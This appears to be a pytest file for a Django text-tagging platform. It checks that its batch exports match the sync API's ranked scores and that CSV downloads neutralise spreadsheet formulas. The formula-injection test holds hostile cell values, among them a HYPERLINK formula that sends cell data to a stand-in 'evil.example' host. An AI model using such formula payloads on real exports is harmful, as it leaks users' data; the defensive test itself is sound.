"""Every way results leave the platform agrees with the sync API's answer for the same texts.

Stored results went through PostgreSQL's jsonb, which re-sorts object keys (shortest first, then
bytewise); the batch CSV took "the first key" of the scores as the top label and was wrong for
most rows. Scores are now stored as ranked lists and read only through serving.ranked.
"""

from __future__ import annotations

import csv
import importlib
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection

from serving.models import BatchJob, BatchResult, BatchStatus, Item
from tests.serving.factories import make_served_need

SPORT = "football match goal striker league coach stadium penalty"
TECH = "software computer internet phone chip startup broadband gadget"
MONEY = "shares market profit bank economy investors company growth"
TEXTS = {
    "s1": SPORT,
    "t1": TECH,
    "m1": MONEY,
    "mix1": "football shares software today",
    "mix2": "bank chip coach internet",
    "t2": "a new phone and a robot gadget from the startup",
    "s2": "the coach praised the striker after the penalty",
    "q1": 'He said "goal", twice; then left.\nA second line, and a third\r\nline.',
}
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def jsonb_first_key(keys) -> str:
    """The key PostgreSQL's jsonb puts first: shortest, then bytewise."""
    return min(keys, key=lambda k: (len(k.encode()), k.encode()))


def best(scores: dict[str, float]) -> tuple[str, float]:
    """The top label by value (ties: any of them), never by key position."""
    score = max(scores.values())
    return next(label for label, s in scores.items() if s == score), score


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def read_jsonl(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return [json.loads(line) for line in body.split("\n") if line]


@pytest.fixture
def sync_answer(api_a, need_a):
    items = [{"id": item_id, "text": text} for item_id, text in TEXTS.items()]
    response = api_a.post("/api/v1/needs/news/tag", {"items": items}, format="json")
    assert response.status_code == 200, response.content
    answer = {item["id"]: item for item in response.json()["items"]}
    # The test is only meaningful if the stored-key order would have lied for some rows.
    assert any(
        best(item["scores"])[0] != jsonb_first_key(item["scores"]) for item in answer.values()
    )
    return answer


def assert_same_as_sync(item_id, labels, scores, model, sync_answer):
    expected = sync_answer[item_id]
    assert labels == expected["labels"], item_id
    assert scores == expected["scores"], item_id
    assert model == expected["model"], item_id


def check_csv(rows, sync_answer, *, with_text=True):
    assert [row["id"] for row in rows] == list(TEXTS)
    for row in rows:
        scores = json.loads(row["scores"])
        model = {"name": row["model"], "version": int(row["model_version"])}
        labels = row["labels"].split("|") if row["labels"] else []
        assert_same_as_sync(row["id"], labels, scores, model, sync_answer)
        top_label, top_score = best(sync_answer[row["id"]]["scores"])
        assert float(row["top_score"]) == top_score, row
        assert sync_answer[row["id"]]["scores"][row["top_label"]] == top_score, row
        if with_text:
            assert row["text"] == TEXTS[row["id"]]
        else:
            assert "text" not in row


def check_jsonl(lines, sync_answer, *, with_text=True):
    assert [line["id"] for line in lines] == list(TEXTS)
    for line in lines:
        assert_same_as_sync(line["id"], line["labels"], line["scores"], line["model"], sync_answer)
        assert (line.get("text") == TEXTS[line["id"]]) if with_text else ("text" not in line)


def upload_batch(client, captured, *, fmt="jsonl"):
    if fmt == "jsonl":
        body = "\n".join(json.dumps({"id": i, "text": t}) for i, t in TEXTS.items())
    else:
        buffer = io.StringIO()
        csv.writer(buffer).writerows([("id", "text"), *TEXTS.items()])
        body = buffer.getvalue()
    upload = SimpleUploadedFile(f"items.{fmt}", body.encode())
    with captured(execute=True):
        response = client.post(
            "/api/v1/batch-jobs", {"need": "news", "file": upload}, format="multipart"
        )
    assert response.status_code == 201, response.content
    job = BatchJob.objects.dangerously_unscoped().get(pk=response.json()["id"])
    assert job.status == BatchStatus.SUCCEEDED
    return job


@pytest.mark.parametrize("upload_format", ["csv", "jsonl"])
def test_every_batch_export_matches_the_sync_answer_on_postgresql(
    requires_postgres,
    settings,
    django_capture_on_commit_callbacks,
    client,
    alice,
    api_a,
    sync_answer,
    upload_format,
):
    settings.BATCH_CHUNK_SIZE = 3
    job = upload_batch(api_a, django_capture_on_commit_callbacks, fmt=upload_format)
    with connection.cursor() as cursor:  # stored as ranked lists, not jsonb objects
        cursor.execute(
            "SELECT DISTINCT jsonb_typeof(scores) FROM serving_batchresult WHERE job_id = %s",
            [job.pk],
        )
        assert cursor.fetchall() == [("array",)]

    api = f"/api/v1/batch-jobs/{job.pk}/results"
    check_csv(read_csv(api_a.get(api)), sync_answer)  # CSV is the default format
    check_csv(read_csv(api_a.get(f"{api}?format=csv&include_text=0")), sync_answer, with_text=False)
    check_jsonl(read_jsonl(api_a.get(f"{api}?format=jsonl")), sync_answer)
    check_jsonl(
        read_jsonl(api_a.get(f"{api}?format=jsonl&include_text=0")), sync_answer, with_text=False
    )

    client.force_login(alice)
    portal = f"/serving/batches/{job.pk}/results"
    check_csv(read_csv(client.get(f"{portal}.csv")), sync_answer)
    check_jsonl(read_jsonl(client.get(f"{portal}.jsonl")), sync_answer)


def test_stream_results_and_batches_of_stored_items_match_the_sync_answer_on_postgresql(
    requires_postgres, django_capture_on_commit_callbacks, api_a, sync_answer
):
    items = [{"id": item_id, "text": text} for item_id, text in TEXTS.items()]
    with django_capture_on_commit_callbacks(execute=True):
        assert api_a.post("/api/v1/needs/news/items", {"items": items}, format="json").status_code
    assert set(Item.objects.dangerously_unscoped().values_list("status", flat=True)) == {"tagged"}
    assert all(
        isinstance(item.result["scores"], list)
        for item in Item.objects.dangerously_unscoped().all()
    )

    listing = api_a.get(f"/api/v1/needs/news/items?ids={','.join(TEXTS)}&limit=100").json()
    assert len(listing["results"]) == len(TEXTS)
    for item in listing["results"]:
        assert_same_as_sync(item["id"], item["labels"], item["scores"], item["model"], sync_answer)

    with django_capture_on_commit_callbacks(execute=True):
        response = api_a.post(
            "/api/v1/batch-jobs", {"need": "news", "item_ids": list(TEXTS)}, format="json"
        )
    assert response.status_code == 201, response.content
    rows = read_csv(api_a.get(f"/api/v1/batch-jobs/{response.json()['id']}/results"))
    check_csv(rows, sync_answer)


def test_a_legacy_scores_object_is_ranked_by_value_not_by_key_order(api_a, need_a, model_version):
    """Rows written before the change (or by an old worker) still download correctly."""
    job = BatchJob.objects.create(tenant=need_a.tenant, need=need_a, source="upload")
    from serving.models import BatchItem

    BatchItem.objects.create(job=job, position=0, external_id="old", text=TECH)
    version = model_version
    BatchResult.objects.create(
        job=job,
        position=0,
        external_id="old",
        labels=["news.tech"],
        scores={"Money": 0.1, "Sport": 0.2, "news.tech": 0.7},  # jsonb keeps Money first
        model_version=version,
    )
    (row,) = read_csv(api_a.get(f"/api/v1/batch-jobs/{job.pk}/results?format=csv"))
    assert (row["top_label"], row["top_score"]) == ("news.tech", "0.7")
    (line,) = read_jsonl(api_a.get(f"/api/v1/batch-jobs/{job.pk}/results?format=jsonl"))
    assert list(line["scores"]) == ["news.tech", "Sport", "Money"]


def test_migration_ranks_stored_score_objects_and_back(need_a, model_version):
    migration = importlib.import_module("serving.migrations.0004_ranked_scores")
    from django.apps import apps

    job = BatchJob.objects.create(tenant=need_a.tenant, need=need_a, source="upload")
    version = model_version
    legacy = {"Money": 0.1, "Sport": 0.2, "news.tech": 0.7}
    result = BatchResult.objects.create(
        job=job, position=0, external_id="a", labels=[], scores=legacy, model_version=version
    )
    item = Item.objects.create(
        tenant=need_a.tenant,
        need=need_a,
        external_id="i",
        text=TECH,
        text_hash="h",
        status="tagged",
        result={"labels": ["news.tech"], "scores": legacy, "model": {"name": "m", "version": 1}},
    )
    pending = Item.objects.create(
        tenant=need_a.tenant, need=need_a, external_id="p", text=TECH, text_hash="h"
    )
    with connection.schema_editor() as editor:
        migration.forward(apps, editor)
    ranked = [["news.tech", 0.7], ["Sport", 0.2], ["Money", 0.1]]
    result.refresh_from_db()
    item.refresh_from_db()
    pending.refresh_from_db()
    assert result.scores == ranked
    assert item.result["scores"] == ranked and item.result["labels"] == ["news.tech"]
    assert pending.result is None

    with connection.schema_editor() as editor:
        migration.backward(apps, editor)
    result.refresh_from_db()
    item.refresh_from_db()
    assert result.scores == legacy and item.result["scores"] == legacy


# --- CSV formula injection --------------------------------------------------------------------
def test_results_csv_neutralises_formulas_in_every_cell(
    django_capture_on_commit_callbacks, tenant_a, api_a, model_version
):
    make_served_need(
        tenant=tenant_a,
        slug="news",
        version=model_version,
        label_mapping={"=Sport": "news.sport", "@Money": "news.business"},
        threshold=0.0,
        top_k=3,
    )
    rows = [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', SPORT),
        ("+1", "=1+2 " + SPORT),
        ("-2", "-3 " + TECH),
        ("@SUM(A1:A2)", "@cmd " + MONEY),
        ("\tlead-tab", "\t" + SPORT),
        ("\rlead-cr", "\r" + TECH),
        ("plain", SPORT),
    ]
    body = "\n".join(json.dumps({"id": i, "text": t}) for i, t in rows)
    with django_capture_on_commit_callbacks(execute=True):
        response = api_a.post(
            "/api/v1/batch-jobs",
            {"need": "news", "file": SimpleUploadedFile("x.jsonl", body.encode())},
            format="multipart",
        )
    assert response.status_code == 201, response.content
    download = api_a.get(f"/api/v1/batch-jobs/{response.json()['id']}/results?format=csv")
    raw = b"".join(download.streaming_content).decode()
    cells = [cell for record in csv.reader(io.StringIO(raw, newline="")) for cell in record]
    assert not [cell for cell in cells if cell.startswith(FORMULAS)]
    table = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert [row["id"] for row in table] == ["'" + i if i != "plain" else i for i, _ in rows]
    assert [row["text"] for row in table] == ["'" + t if t[0] in "=+-@\t\r" else t for _, t in rows]
    assert table[0]["top_label"] == "'=Sport" and table[0]["labels"].startswith("'=Sport")
    # JSONL keeps the exact values: it is data, not a spreadsheet.
    jsonl = api_a.get(f"/api/v1/batch-jobs/{response.json()['id']}/results?format=jsonl")
    assert [line["id"] for line in read_jsonl(jsonl)] == [i for i, _ in rows]


def test_every_csv_the_platform_writes_goes_through_the_safe_writer():
    """A new CSV export must use core.csv_io.SafeWriter (formula neutralising)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in ("platform", "tenants", "taxonomy", "workers"):
        for path in (root / folder).rglob("*.py"):
            if path.name == "csv_io.py" or "migrations" in path.parts:
                continue
            source = path.read_text()
            if "csv.writer(" in source or "csv.DictWriter(" in source:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


def test_invalid_include_text_is_400(django_capture_on_commit_callbacks, api_a, need_a):
    job = upload_batch(api_a, django_capture_on_commit_callbacks)
    response = api_a.get(f"/api/v1/batch-jobs/{job.pk}/results?include_text=maybe")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid"
